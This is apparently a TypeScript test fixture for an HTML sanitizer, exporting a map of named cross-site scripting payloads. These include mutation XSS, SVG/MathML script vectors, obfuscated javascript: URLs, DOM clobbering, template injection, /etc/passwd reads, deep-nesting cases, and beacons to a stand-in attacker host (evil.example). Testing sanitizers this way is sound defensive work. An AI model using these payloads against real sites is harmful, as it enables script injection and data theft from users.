const deep = (open: string, close: string, times: number) =>
  `${open.repeat(times)}<a href="javascript:alert(1)">x</a>${close.repeat(times)}`;

/** One document for each known kind of attack. Each tries to get something to run, load or send. */
export const ATTACKS: Readonly<Record<string, string>> = {
  // Markup that becomes something else when it is parsed a second time.
  "mutation, svg style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "mutation, math mglyph":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "mutation, nested forms": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "mutation, noscript title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>x',
  "mutation, backticks":
    '<p title="``onmouseover=alert(1)">x</p><a title=`><img src=x onerror=alert(1)>` href=https://x.example>x</a>',
  "mutation, listing": '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>',
  "mutation, entities in pre": "<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre><xmp><script>alert(1)</script></xmp>",
  "mutation, annotation-xml":
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  "mutation, foreignObject":
    "<svg><foreignObject><style><!--</style><p>--><img src=x onerror=alert(1)></foreignObject></svg>",
  "mutation, desc": "<svg><desc><svg><style><a title='</style><script>alert(1)</script>'></desc></svg>",
  "mutation, table foster": "<table><caption><svg><table><style><!--</style><img src=x onerror=alert(1)>--></table>",
  "mutation, select": "<select><iframe><script>alert(1)</script></select><option><img src=x onerror=alert(1)>",
  // SVG and MathML with links and code of their own.
  "svg animate": '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>',
  "svg set":
    '<svg><set attributeName=onload to="alert(1)"/><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  "svg script href": '<svg><script href="data:,alert(1)"/><handler type="text/javascript">alert(1)</handler></svg>',
  "math href":
    '<math href="javascript:alert(1)"><mi>x</mi></math><math><mi xlink:href="data:text/html,x">x</mi></math>',
  "svg image": '<svg><image href="https://evil.example/p.png" onerror=alert(1) /><feImage href="javascript:x"/></svg>',
  // Content that is inert until something else reads it.
  "template in template": "<template><template><script>alert(1)</script></template></template><p>x</p>",
  "shadow root": "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
  "noembed and noframes":
    "<noembed><img src=x onerror=alert(1)></noembed><noframes><script>alert(1)</script></noframes>",
  "conditional comment":
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if true]><script>alert(1)</script><![endif]>",
  "processing instruction":
    '<?xml-stylesheet href="javascript:alert(1)"?><!ENTITY x SYSTEM "file:///etc/passwd">&x;<p>x</p>',
  // Elements that load or send something on their own.
  srcset:
    '<picture><source srcset="https://evil.example/a 1x, javascript:x 2x"><img class=emoji alt="🙂" srcset="https://evil.example/b 1x" src=x></picture>',
  "ping and download":
    '<a href="https://x.example" ping="https://evil.example" download target=_blank rel=opener referrerpolicy=unsafe-url>x</a>',
  formaction:
    '<form id=f action="https://evil.example"></form><button form=f formaction="javascript:alert(1)">go</button><input type=image src="https://evil.example" formaction="javascript:x">',
  "style url":
    '<p style="background:url(https://evil.example/?leak);list-style:url(javascript:x);behavior:url(x.htc)">x</p>',
  "style sheet": '<style>@import "https://evil.example/x.css"; a[href]{background:url(//evil.example)}</style><p>x</p>',
  "style escapes": "<p style='background:u\\72l(\\6a avascript:x);-moz-binding:url(x)'>x</p>",
  "background attributes":
    '<table background="javascript:alert(1)"><tr><td background="https://evil.example/p.png" bgcolor="&{alert(1)}">x</table><body background="https://evil.example">',
  "lowsrc dynsrc":
    '<img class=emoji alt="🙂" dynsrc="javascript:x" lowsrc="javascript:y" longdesc="javascript:z" usemap="#m"><map name=m><area href="javascript:alert(1)" alt=x></map>',
  base: '<base href="javascript:/a/"><base target="evil"><a href="//alert(1)">x</a><a href="b">y</a>',
  "meta refresh":
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>"><meta http-equiv=Set-Cookie content="a=b"><p>x</p>',
  link: '<link rel=prefetch href="https://evil.example"><link rel=import href="data:text/html,<script>alert(1)</script>"><p>x</p>',
  "portal and objects":
    '<portal src="https://evil.example"></portal><object data="data:text/html;base64,PHNjcmlwdD4="><param name=movie value="javascript:x"></object><applet archive="https://evil.example"></applet><fencedframe></fencedframe><p>x</p>',
  "data everywhere":
    '<a href="data:text/html,x" data-href="data:x">x</a><iframe src="data:text/html,x" srcdoc="<script>alert(1)</script>"></iframe><video src="data:video/mp4,x" poster="data:x"><source src="data:x"></video><embed src="data:x"><object data="data:x"></object><amp-img src="data:x"></amp-img>',
  players:
    '<lite-youtube videoid="&quot;><script>alert(1)</script>"></lite-youtube><oembed url="javascript:alert(1)"></oembed><video-js data-account="../../" data-video-id="<script>"></video-js><div data-oembed-url="javascript:alert(1)">x</div><div data-embed-url="//user:pass@evil.example">y</div><div class="fb-post" data-href="/&quot;onload=alert(1)">z</div>',
  // Obfuscated names.
  "entities in a scheme":
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">a</a><a href="&Tab;java&NewLine;script&colon;alert&lpar;1&rpar;">b</a><a href="&#0000106avascript:alert(1)">c</a>',
  "white space in a scheme":
    '<a href="\u0001java\tscript:alert(1)">a</a><a href="\u00A0javascript:alert(1)">b</a><a href="jav\u200Bascript:alert(1)">c</a><a href="\uFF4Aavascript:alert(1)">d</a>',
  "schemes in schemes":
    '<a href="https:javascript:alert(1)">a</a><a href="http://javascript:alert(1)">b</a><a href="https//javascript:alert(1)">c</a><a href="“javascript:alert(1)”">d</a><a href="%22javascript:alert(1)%22">e</a><a href="www.x.example/javascript:alert(1)">f</a>',
  "doubled attributes":
    '<a href="https://x.example" href="javascript:alert(1)" HREF="javascript:alert(2)">a</a><p id=x id=y onclick=a onclick=b>x</p>',
  "attributes without an end":
    "<a href=https://x.example/onclick=alert(1) onfocus=alert(1) autofocus tabindex=0 style=x>a</a><p/onclick=alert(1)>x</p>",
  "names with slashes":
    '<img/src="x"/class="emoji"/alt="🙂"/onerror=alert(1)><svg/onload=alert(1)><p\u000Bonclick=alert(1)>x</p>',
  clobbering:
    '<p id="__proto__">a</p><p id=constructor name=hasOwnProperty>b</p><form id=attributes><input name=parentNode></form><a href="#__proto__">x</a><a href="#constructor">y</a>',
  // Code that other software would run.
  "custom elements":
    '<x-evil onclick=alert(1) src="javascript:x" is="x-y"><slot name=onload></slot></x-evil><a is="x-evil" href="javascript:x">y</a><image src=x onerror=alert(1)>',
  shortcodes:
    '[embed]javascript:alert(1)[/embed][video src="javascript:x"][youtube https://x.example/%22onload=alert(1)][caption caption="&lt;script&gt;alert(1)&lt;/script&gt;"]x[/caption]',
  templates:
    '{{constructor.constructor("alert(1)")()}} {% include "/etc/passwd" %} $ {alert(1)} <%= system("x") %> {{{<script>alert(1)</script>}}} x',
  "captions as HTML":
    '<drupal-media data-caption="<script>alert(1)</script><img src=x onerror=alert(1)>x"></drupal-media><div class="wp-caption"><p class="wp-caption-text"><script>alert(1)</script>c</p></div>',
  // Deep nesting.
  "deep blocks": deep("<div><blockquote>", "</blockquote></div>", 100),
  "deep formatting": deep("<b><i><u><a href=https://x.example>", "</a></u></i></b>", 60),
  "deep lists": deep("<ul><li>", "</li></ul>", 100),
  "deep tables": deep("<table><tr><td>", "</td></tr></table>", 50),
  "deep beyond measure": deep("<div>", "</div>", 20_000),
};
